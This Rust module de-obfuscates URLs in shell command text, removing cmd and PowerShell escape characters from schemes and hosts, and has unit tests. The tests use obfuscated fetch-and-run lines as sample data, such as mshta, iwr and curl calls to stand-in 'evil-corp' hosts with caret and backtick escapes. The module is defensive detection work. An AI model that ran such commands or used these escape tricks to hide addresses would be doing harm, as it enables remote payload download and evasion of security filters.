//! Signs that a shell drops, which only hide an address: `ht^tp://e^vil.example`, ``h`ttp://``, `h""ttp://`.

use std::borrow::Cow;

/// What a shell drops between two letters: the escapes of cmd and PowerShell, and an empty pair of quotes.
const DROPPED: [&str; 4] = ["^", "`", "\"\"", "''"];

/// How an address begins that a shell is given.
const SCHEMES: [&str; 3] = ["http://", "https://", "ftp://"];

/// Bytes of a word in which an address is looked for, and of its host.
const LONGEST: usize = 512;

/// The text with the addresses whose scheme or host hold such signs written out. Elsewhere they stay: between values they part them.
pub(super) fn written_out(text: &str) -> Cow<'_, str> {
    if !text.contains(':') || !DROPPED.iter().any(|sign| text.contains(sign)) {
        return Cow::Borrowed(text);
    }
    let mut out: Option<String> = None;
    let mut end = 0;
    for word in text.split_inclusive(char::is_whitespace) {
        let at = end;
        end += word.len();
        if let Some(address) = address(word) {
            out.get_or_insert_with(|| text.get(..at).unwrap_or_default().to_owned()).push_str(&address);
        } else if let Some(out) = &mut out {
            out.push_str(word);
        }
    }
    out.map_or(Cow::Borrowed(text), Cow::Owned)
}

/// The word without them, where they stand in the scheme or the host of an address in it.
fn address(word: &str) -> Option<String> {
    word.char_indices().take(LONGEST).filter(|(_, first)| matches!(first, 'h' | 'H' | 'f' | 'F')).find_map(|(at, _)| {
        let before = word.get(..at)?;
        if before.ends_with(char::is_alphanumeric) {
            return None;
        }
        let (scheme, host) = SCHEMES.iter().find_map(|scheme| Some((scheme, after(word, at, scheme)?)))?;
        let behind = word.get(host..)?;
        let path = behind.find(['/', '?', '#']).unwrap_or(behind.len());
        let shown = without(behind.get(..path).filter(|host| host.len() <= LONGEST)?);
        let whole = [before, scheme, &shown, behind.get(path..)?].concat();
        (whole.len() < word.len()).then_some(whole)
    })
}

/// Where a scheme ends that begins at `at`, such signs in it or not.
fn after(word: &str, at: usize, scheme: &str) -> Option<usize> {
    let mut rest = word.get(at..)?;
    for (place, letter) in scheme.char_indices() {
        while let Some(behind) = DROPPED.iter().find_map(|sign| rest.strip_prefix(sign)).filter(|_| place > 0) {
            rest = behind;
        }
        rest = rest.strip_prefix(|first: char| first.eq_ignore_ascii_case(&letter))?;
    }
    Some(word.len() - rest.len())
}

/// The host without such signs between two of its letters.
fn without(host: &str) -> String {
    let (mut clean, mut rest) = (String::new(), host);
    while let Some((at, sign)) = next(rest) {
        let (before, behind) = (rest.get(..at).unwrap_or_default(), rest.get(at + sign.len()..).unwrap_or_default());
        clean.push_str(before);
        if !is_between(clean.chars().next_back(), behind) {
            clean.push_str(sign);
        }
        rest = behind;
    }
    clean + rest
}

/// Digits on both sides may be the end of one value and the beginning of another, as may what begins an address.
fn is_between(before: Option<char>, behind: &str) -> bool {
    let of_host = |sign: char| sign.is_ascii_alphanumeric() || matches!(sign, '.' | '-');
    let (Some(before), Some(first)) = (before, behind.chars().next()) else { return false };
    if ["http", "ftp:"].iter().any(|word| behind.get(..4).is_some_and(|start| start.eq_ignore_ascii_case(word))) {
        return false;
    }
    of_host(before) && of_host(first) && !(before.is_ascii_digit() && first.is_ascii_digit())
}

fn next(text: &str) -> Option<(usize, &'static str)> {
    DROPPED.iter().filter_map(|sign| Some((text.find(sign)?, *sign))).min()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_address_that_a_shell_would_read_is_written_out_and_what_parts_values_stays() {
        for (text, read) in [
            ("mshta ht^tp://b16.e^vil-corp.test/a now", "mshta http://b16.evil-corp.test/a now"),
            ("iwr h`ttp://b19.e`vil-corp.test", "iwr http://b19.evil-corp.test"),
            ("curl http://ev1^l3-corp.test/q", "curl http://ev1l3-corp.test/q"),
            ("h`ttp://my`-bad`-corp.test/x", "http://my-bad-corp.test/x"),
            ("ht^tp^:^/^/e^vil-corp.test/a", "http://evil-corp.test/a"),
            ("HT^TPS://evil^.corp-x.test/z", "https://evil.corp-x.test/z"),
            ("http://198.51.100.1^198.51.100.2", "http://198.51.100.1^198.51.100.2"),
            ("http://a.test^http://b.test", "http://a.test^http://b.test"),
            ("curl h\"\"ttp://ev\"\"il.test/a", "curl http://evil.test/a"),
            ("a.test^b.test^http://c.test/x", "a.test^b.test^http://c.test/x"),
            ("http://a.test/x^y `http://b.test/`", "http://a.test/x^y `http://b.test/`"),
            ("[b](http://b.test) `a`b`", "[b](http://b.test) `a`b`"),
            ("say \"\"http://a.test/\"\" 2^10: x^y", "say \"\"http://a.test/\"\" 2^10: x^y"),
        ] {
            assert_eq!(written_out(text), read, "{text}");
        }
    }
}
